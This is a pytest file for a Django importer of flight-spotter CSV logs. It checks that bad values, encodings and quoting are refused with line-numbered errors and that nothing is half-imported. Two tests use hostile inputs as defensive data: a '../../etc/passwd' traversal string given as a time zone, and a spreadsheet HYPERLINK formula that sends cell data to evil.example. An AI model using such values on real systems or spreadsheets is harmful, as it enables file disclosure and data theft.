"""Validating flight-spotter logs (``evidence.flights.flightlog``, ``import_flightlog``).

Every file is generated here; the hostile inputs of the issue each have a test
that checks the message names the line and that nothing was half-imported (no
item, no stored file, no observation).
"""

from __future__ import annotations

import io

import pytest

from evidence.flights import flightlog
from evidence.flights.flightlog import FlightLogRefused, import_flight_log
from evidence.flights.tests.flightlog_helpers import (
    EXAMPLE,
    HEADER,
    assert_refused,
    csv_file,
    nothing_stored,
    row,
    run,
)
from evidence.models import EvidenceItem, FlightLog, FlightObservation
from evidence.tests.files import make_jpeg

pytestmark = pytest.mark.django_db


# --- Validation: every problem, by line and column ---------------------------------------------


def test_every_problem_is_reported_with_its_line_and_column(researcher, tmp_path):
    text = "\n".join(
        [
            HEADER,
            row(),
            row(heading="400", aircraft_count="0"),
            row(station_lat="95"),
            row(nationality="Martian", station=""),
        ]
    )
    err = assert_refused(tmp_path, text + "\n")

    assert [line for line in err.splitlines() if line.startswith("line ")] == [
        "line 3, aircraft_count: '0' is not a whole number of at least 1",
        "line 3, heading: 400 is not within 0-359 degrees",
        "line 4, station_lat: 95 is outside -90 to 90",
        "line 5, station: required, but empty",
        "line 5, nationality: 'Martian' is not one of RU, SY, unknown (or Russian, Syrian)",
    ]
    assert "Nothing imported: 5 problems in 3 of 4 rows." in err


def test_skip_invalid_imports_the_valid_rows_and_lists_the_others(researcher, tmp_path):
    text = "\n".join([HEADER, row(), row(aircraft_count="two"), row(heading="NNNE"), row()])
    path = csv_file(tmp_path, text + "\n")

    status, out, err = run("--user", "researcher", "--skip-invalid", str(path))

    assert status == 0, err
    item = EvidenceItem.objects.get()
    assert out.strip() == (
        f"{item.code} {item.sha256} {path}: 2 observations imported, 2 invalid rows skipped"
    )
    assert "line 3, aircraft_count: 'two' is not a whole number of at least 1" in err
    assert "line 4, heading: 'NNNE' is neither degrees 0-359 nor a compass point" in err
    assert sorted(FlightObservation.objects.values_list("line_number", flat=True)) == [2, 5]
    assert FlightLog.objects.get().row_count == 2


# --- Hostile inputs: a clear error naming the line, nothing half-imported ----------------------


def test_naive_times_without_a_zone_refuse_the_file(researcher, tmp_path):
    err = assert_refused(
        tmp_path,
        EXAMPLE,
        "line 3, observed_at: written without a UTC offset, and no time zone was given",
        "--tz Asia/Damascus",
        tz="",
    )
    assert "line 2" not in err  # the row with an offset is fine


def test_unknown_zone_is_refused_before_reading(researcher, tmp_path):
    assert_refused(
        tmp_path,
        EXAMPLE,
        "Unknown time zone 'Mars/Olympus_Mons': use an IANA name such as Asia/Damascus",
        tz="Mars/Olympus_Mons",
    )
    with pytest.raises(FlightLogRefused, match="Unknown time zone '../../etc/passwd'"):
        flightlog.parse_zone("../../etc/passwd")


def test_february_30th_is_not_a_date(researcher, tmp_path):
    assert_refused(
        tmp_path,
        f"{HEADER}\n{row()}\n{row(observed_at='2019-02-30T10:00:00+03:00')}\n",
        "line 3, observed_at: 2019-02-30T10:00:00+03:00 is not a real date and time "
        "(day is out of range for month)",
    )


def test_time_that_does_not_exist_or_happened_twice_locally_is_refused(researcher, tmp_path):
    # Europe/London: 2019-03-31 01:30 never happened; 2019-10-27 01:30 happened twice.
    text = (
        f"{HEADER}\n{row(observed_at='2019-03-31 01:30')}\n{row(observed_at='2019-10-27 01:30')}\n"
    )
    assert_refused(
        tmp_path,
        text,
        "line 2, observed_at: 2019-03-31 01:30 does not exist in Europe/London",
        "line 3, observed_at: 2019-10-27 01:30 happened twice in Europe/London",
        tz="Europe/London",
    )


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("heading", "400", "line 2, heading: 400 is not within 0-359 degrees"),
        ("heading", "NNNE", "line 2, heading: 'NNNE' is neither degrees 0-359 nor a compass"),
        ("station_lat", "95", "line 2, station_lat: 95 is outside -90 to 90"),
        ("station_lon", "181", "line 2, station_lon: 181 is outside -180 to 180"),
        ("aircraft_count", "0", "line 2, aircraft_count: '0' is not a whole number of at least 1"),
        ("aircraft_count", "two", "line 2, aircraft_count: 'two' is not a whole number"),
        ("observed_at", "13/05/2019 09:42", "line 2, observed_at: '13/05/2019 09:42' is not an"),
        ("observed_at", "2019-05-13", "line 2, observed_at: 2019-05-13 has a date but no time"),
        ("observed_at", "2099-01-01T00:00:00Z", "line 2, observed_at: 2099-01-01T00:00:00Z is in"),
        ("nationality", "Iranian", "line 2, nationality: 'Iranian' is not one of RU, SY"),
    ],
)
def test_invalid_value_is_refused_with_its_line_and_column(
    researcher, tmp_path, column, value, message
):
    assert_refused(tmp_path, f"{HEADER}\n{row(**{column: value})}\n", message)


def test_missing_required_column_refuses_the_file(researcher, tmp_path):
    text = "observed_at,station_lat,station_lon,aircraft_type\n2019-05-13T09:42Z,35.6,36.5,Su-24\n"
    assert_refused(
        tmp_path,
        text,
        "line 1, station: required column is missing",
        "The header (line 1) does not describe a flight log",
    )


def test_row_with_the_wrong_number_of_fields_is_named(researcher, tmp_path):
    assert_refused(
        tmp_path,
        f"{HEADER}\n{row()}\n2019-05-13T09:42Z,KFN-1,Su-24\n",
        "line 3: 3 fields where the header has 12",
    )


def test_a_jpeg_renamed_csv_is_not_csv(researcher, tmp_path):
    assert_refused(
        tmp_path, make_jpeg(), "This file is not CSV text (it looks like image/jpeg)", tz=""
    )


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_a_utf16_file_is_refused_with_what_to_do(researcher, tmp_path, encoding):
    assert_refused(
        tmp_path,
        EXAMPLE.encode(encoding),
        "This file is UTF-16 text; flight logs are read as UTF-8. Save it as “CSV UTF-8”",
        tz="",
    )


def test_a_byte_order_mark_is_accepted_and_not_part_of_the_first_column(researcher, tmp_path):
    status, _, err = run(
        "--user",
        "researcher",
        "--tz",
        "UTC",
        str(csv_file(tmp_path, b"\xef\xbb\xbf" + EXAMPLE.encode())),
    )
    assert status == 0, err
    assert FlightObservation.objects.count() == 2


def test_text_that_is_not_utf8_names_its_line(researcher, tmp_path):
    text = f"{HEADER}\n{row()}\n".encode() + row(notes="caf\xe9").encode("latin-1") + b"\n"
    assert_refused(tmp_path, text, "line 3: not UTF-8 text")


def test_broken_quoting_names_its_line(researcher, tmp_path):
    text = f"{HEADER}\n{row()}\n{row(notes=chr(34) + 'open quote never closed')}\n{row()}\n"
    assert_refused(tmp_path, text, "line 3: the CSV quoting is broken")


def test_empty_file_and_header_only_are_refused(researcher, tmp_path):
    assert_refused(tmp_path, b"", "The file is empty", tz="")
    assert_refused(tmp_path, HEADER + "\n", "The file has a header but no rows.", tz="")


def test_formula_in_notes_is_stored_as_text(researcher, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    quoted = '"' + formula.replace('"', '""') + '"'
    text = f"{HEADER}\n{row(notes=quoted, callsign='+SUM(1;2)')}\n"

    status, _, err = run("--user", "researcher", str(csv_file(tmp_path, text)))

    assert status == 0, err
    obs = FlightObservation.objects.get()
    assert obs.notes == formula  # exactly as written: neutralising is the CSV export's job
    assert obs.callsign == "+SUM(1;2)"


def test_a_million_row_file_with_one_bad_last_row_is_refused_whole(researcher, tmp_path):
    rows = 1_000_000
    good = (row(station_lat="", station_lon="") + "\n").encode()
    path = tmp_path / "big.csv"
    with path.open("wb") as out:
        out.write(HEADER.encode() + b"\n")
        out.write(good * (rows - 1))
        out.write(row(heading="400").encode() + b"\n")

    status, _, err = run("--user", "researcher", "--tz", "UTC", str(path))

    assert status == 1
    assert f"line {rows + 1}, heading: 400 is not within 0-359 degrees" in err
    assert f"Nothing imported: 1 problem in 1 of {rows:,} rows." in err
    assert nothing_stored()


def test_problems_beyond_the_kept_ones_are_counted(researcher, tmp_path, monkeypatch):
    monkeypatch.setattr(flightlog, "MAX_PROBLEMS", 3)
    text = HEADER + "\n" + "\n".join(row(heading="400") for _ in range(5)) + "\n"

    err = assert_refused(tmp_path, text, "… and 2 more problems")

    assert len([line for line in err.splitlines() if line.startswith("line ")]) == 3


def test_failure_while_inserting_leaves_no_item_file_or_rows(researcher, tmp_path, monkeypatch):
    def fail(*args, **kwargs):
        raise RuntimeError("database went away")

    monkeypatch.setattr(flightlog.FlightObservation.objects, "bulk_create", fail)

    with pytest.raises(RuntimeError, match="database went away"):
        import_flight_log(
            io.BytesIO(EXAMPLE.encode()), filename="log.csv", by=researcher, time_zone="UTC"
        )

    assert nothing_stored()
